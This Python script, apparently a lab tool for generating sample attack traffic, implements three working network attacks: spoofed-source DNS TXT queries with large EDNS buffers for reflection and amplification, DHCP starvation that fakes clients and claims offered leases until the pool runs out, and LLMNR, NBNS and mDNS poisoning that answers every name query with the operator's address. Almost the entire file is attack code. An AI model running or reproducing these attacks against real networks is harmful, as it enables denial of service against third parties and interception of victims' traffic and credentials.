#!/usr/bin/env python3
"""Frames and datagrams that no ordinary tool sends, for the samples. Only for the laboratory's own namespaces.

usage: frames.py ask --source IP --server IP --name NAME --count N --rate R     DNS questions in somebody else's name
       frames.py starve --interface IF --count N --rate R                       DHCP clients that do not exist
       frames.py poison --interface IF --answer IP --seconds S                  says "that is me" to every name asked for by multicast
Everything is counted or timed, and ends by itself.
"""
import argparse, select, socket, struct, time


def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def udp_in_ip(source, target, source_port, target_port, payload, number=1):
    src, dst = socket.inet_aton(source), socket.inet_aton(target)
    udp = struct.pack('!HHHH', source_port, target_port, 8 + len(payload), 0) + payload
    pseudo = src + dst + struct.pack('!BBH', 0, 17, len(udp))
    udp = udp[:6] + struct.pack('!H', checksum(pseudo + udp) or 0xffff) + udp[8:]
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), number & 0xffff, 0, 64, 17, 0, src, dst)
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + udp


def labels(name):
    return b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'


def ask(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for n in range(a.count):
        # A TXT question with EDNS, so that the answer may be large.
        question = struct.pack('!HHHHHH', 0x1000 + n, 0x0100, 1, 0, 0, 1) + labels(a.name) + struct.pack('!HH', 16, 1)
        question += b'\0' + struct.pack('!HHIH', 41, 4096, 0, 0)
        s.sendto(udp_in_ip(a.source, a.server, 20000 + n * 7 % 40000, 53, question, n), (a.server, 0))
        time.sleep(1 / a.rate)


def dhcp(client, transaction, options):
    fixed = struct.pack('!BBBBIHH', 1, 1, 6, 0, transaction, 0, 0x8000) + bytes(16) + client + bytes(10 + 64 + 128)
    return fixed + b'\x63\x82\x53\x63' + options + b'\xff'


def starve(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((a.interface, 0))
    own = s.getsockname()[4]

    def send(payload):
        s.send(b'\xff' * 6 + own + b'\x08\x00' + udp_in_ip('0.0.0.0', '255.255.255.255', 68, 67, payload))

    for n in range(a.count):
        client, end = b'\x02\x53' + struct.pack('!I', (n * 2654435761) & 0xffffffff), time.time() + 1 / a.rate
        send(dhcp(client, 0x5a000000 + n, b'\x35\x01\x01\x37\x03\x01\x03\x06'))
        while (left := end - time.time()) > 0:
            if not select.select([s], [], [], left)[0]:
                break
            frame = s.recv(2048)
            body = frame[42:]
            # An offer for this client: take it, as somebody does who wants the pool to run out.
            if frame[23] == 17 and frame[34:38] == b'\0\x43\0\x44' and body[28:34] == client and b'\x35\x01\x02' in body[240:250]:
                send(dhcp(client, 0x5a000000 + n, b'\x35\x01\x03\x32\x04' + body[16:20] + b'\x36\x04' + frame[26:30]))



def poison(a):
    """Answers LLMNR, NetBIOS name service and mDNS questions for addresses, whatever the name."""
    mine, sockets = socket.inet_aton(a.answer), {}
    for kind, port, group in (('llmnr', 5355, '224.0.0.252'), ('mdns', 5353, '224.0.0.251'), ('nbns', 137, None)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a.interface.encode())
        s.bind(('', port))
        if group:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + mine)
        sockets[s] = kind
    end = time.time() + a.seconds
    while (left := end - time.time()) > 0:
        for s in select.select(list(sockets), [], [], left)[0]:
            data, peer = s.recvfrom(2048)
            if len(data) < 18 or data[2] & 0x80 or peer[0] == a.answer:
                continue
            number, question = data[:2], data[12:]
            if sockets[s] == 'nbns':
                # Positive name query response: flags, one answer, the encoded name, type NB, address.
                s.sendto(number + b'\x85\0\0\0\0\1\0\0\0\0' + question[:34] + b'\0\x20\0\1' + struct.pack('!IH', 165, 6) + b'\0\0' + mine, peer)
                continue
            stop = question.index(b'\0') + 1
            if question[stop:stop + 2] != b'\0\1':
                continue
            entry = question[:stop] + b'\0\1\0\1' + struct.pack('!IH', 30, 4) + mine
            asked = question[:stop + 4] if sockets[s] == 'llmnr' or peer[1] != 5353 else b''
            flags = b'\x80\0' if sockets[s] == 'llmnr' else b'\x84\0'
            s.sendto(number + flags + struct.pack('!HHHH', bool(asked), 1, 0, 0) + asked + entry, peer)


def main():
    a = argparse.ArgumentParser()
    a.add_argument('what', choices=['ask', 'starve', 'poison'])
    for name in ('source', 'server', 'name', 'interface', 'answer'):
        a.add_argument('--' + name)
    for name in ('count', 'rate', 'seconds'):
        a.add_argument('--' + name, type=int)
    a = a.parse_args()
    {'ask': ask, 'starve': starve, 'poison': poison}[a.what](a)


main()
